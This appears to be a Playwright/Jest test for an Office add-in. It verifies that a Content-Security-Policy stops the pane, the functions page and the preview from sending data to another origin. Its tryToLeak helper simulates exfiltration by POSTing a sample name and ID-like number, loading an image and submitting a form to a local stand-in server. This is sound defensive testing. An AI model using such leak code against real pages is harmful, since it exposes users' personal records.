/**
 * Issue 9: the pane, the custom-functions page and the preview carry a Content-Security-Policy that lets them talk to
 * nothing but their own origin (scripts also from Microsoft's office.js host), so the browser itself keeps every
 * roster on the machine. In Debian's Chromium: the policy is read from each built page, and a fetch (and an image, a
 * form post) from the page to another origin — a local server that would answer anyone — never reaches it.
 */
import * as http from 'http';
import type { AddressInfo } from 'net';
import type { Browser, Page } from 'playwright-core';
import { builtAddin } from '../build/builtAddin';
import type { PreviewServer } from './previewHarness';
import { launchChromium, ROOT, startPreviewServer } from './previewHarness';
import { chromiumAvailable, describeInBrowser } from '../support/chromium';

jest.setTimeout(300_000);

/** Another origin: answers every request, to any origin (CORS allowed), and remembers that it was asked. */
interface Elsewhere {
  readonly url: string;
  readonly requests: string[];
  close(): Promise<void>;
}

function startElsewhere(): Promise<Elsewhere> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' }).end('leaked');
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      resolve({ url: `http://127.0.0.1:${port}/`, requests, close: () => new Promise((done) => server.close(() => done())) });
    });
  });
}

interface Tried {
  readonly policy: string | null;
  readonly own: string;
  readonly other: string;
  readonly violations: string[];
}

/** From inside the page: the policy it carries, a fetch to its own origin, and attempts to send to `other`. */
async function tryToLeak(page: Page, other: string): Promise<Tried> {
  return page.evaluate(async (target) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? null;
    const outcome = (p: Promise<Response>) =>
      p.then(
        (r) => `answered ${r.status}`,
        (e: unknown) => `blocked: ${String(e)}`,
      );
    const own = await outcome(fetch(location.href, { cache: 'no-store' }));
    const other = await outcome(fetch(`${target}fetch?roster=222424198003133338`, { method: 'POST', body: '张三,222424198003133338' }));
    const image = new Image();
    image.src = `${target}image`;
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${target}form`;
    document.body.appendChild(form);
    try {
      form.submit();
    } catch {
      // A blocked submission may throw in some browsers; the server's log is what counts.
    }
    await new Promise((r) => setTimeout(r, 500));
    return { policy, own, other, violations };
  }, other);
}

/** Each directive of a policy, its sources sorted. */
function directives(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources.sort()]),
  );
}

let browser: Browser;
let elsewhere: Elsewhere;
let preview: PreviewServer;
let addin: PreviewServer;

beforeAll(async () => {
  if (!chromiumAvailable()) return;
  const dist = builtAddin();
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { startServer } = require(`${ROOT}/preview/server.js`) as { startServer(root: string, port: number): Promise<PreviewServer> };
  addin = await startServer(dist, 0);
  preview = await startPreviewServer();
  elsewhere = await startElsewhere();
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([preview?.close(), addin?.close(), elsewhere?.close()]);
});

const PAGES: ReadonlyArray<[string, () => string]> = [
  ['the task pane (taskpane.html)', () => `${addin.url}taskpane.html`],
  ['the functions page (functions.html)', () => `${addin.url}functions.html`],
  ['the preview, with the pane running in it', () => `${preview.url}?sample=${encodeURIComponent('employ-wangqing-2022.xlsx')}`],
];

describeInBrowser('each page', () => describe.each(PAGES)('%s', (_, url) => {
  let tried: Tried;
  let requestsBefore: number;

  beforeAll(async () => {
    const page = await browser.newPage();
    // The task pane's office.js comes from Microsoft's CDN, which this machine cannot reach: answer it empty.
    await page.route('https://appsforoffice.microsoft.com/**', (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: '' }));
    await page.goto(url(), { waitUntil: 'load' });
    if (url().startsWith(preview.url)) await page.locator('[data-testid=run]:not([disabled])').waitFor({ timeout: 60_000 });
    requestsBefore = elsewhere.requests.length;
    tried = await tryToLeak(page, elsewhere.url);
    await page.close();
  });

  it('carries the policy: its own origin only, scripts also from the office.js host', () => {
    expect(tried.policy).not.toBeNull();
    const d = directives(tried.policy!);
    expect(d['default-src']).toEqual(["'self'"]);
    expect(d['connect-src']).toEqual(["'self'"]);
    expect(d['script-src']).toEqual(["'self'", 'https://appsforoffice.microsoft.com'].sort());
    expect(d['form-action']).toEqual(["'self'"]);
  });

  it('can still fetch from its own origin', () => {
    expect(tried.own).toBe('answered 200');
  });

  it('cannot fetch, load an image from or post a form to another origin: nothing reaches it', () => {
    expect(tried.other).toMatch(/^blocked/);
    expect(tried.violations.some((v) => v.startsWith('connect-src'))).toBe(true);
    expect(elsewhere.requests.slice(requestsBefore)).toEqual([]);
  });
}));

describeInBrowser('the other origin', () => {
  it('answers a request that does not come from the pane (so "blocked" above is the policy, not a dead server)', async () => {
    const before = elsewhere.requests.length;
    const response = await fetch(`${elsewhere.url}direct`);
    expect(await response.text()).toBe('leaked');
    expect(elsewhere.requests.length).toBe(before + 1);
  });
});
